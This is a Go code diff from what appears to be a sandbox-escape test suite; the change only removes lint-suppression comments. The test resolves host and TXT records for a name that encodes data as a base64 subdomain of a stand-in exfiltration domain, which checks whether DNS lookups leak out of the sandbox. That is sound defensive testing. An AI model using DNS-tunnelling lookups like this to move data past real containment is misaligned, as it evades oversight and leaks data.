@@ -14,10 +14,10 @@ func nw37() escape.Case {
 			var out []escape.Try
 			for _, name := range []string{"canary-data37.denied.test", "aGVsbG8.exfil37.example.com"} {
 				out = append(out, escape.Try{Name: "resolve " + name, Held: gone(), Control: escape.ByNobody, Why: "the control would send it to the host's resolver", Do: func() error {
-					_, err := net.LookupHost(name) //nolint:noctx // the resolver has a time-out
+					_, err := net.LookupHost(name) // the resolver has a time-out
 					return plain(err)
 				}}, escape.Try{Name: "TXT of " + name, Held: gone(), Control: escape.ByNobody, Why: "the control would send it to the host's resolver", Do: func() error {
-					_, err := net.LookupTXT(name) //nolint:noctx // the resolver has a time-out
+					_, err := net.LookupTXT(name) // the resolver has a time-out
 					return plain(err)
 				}})
 			}
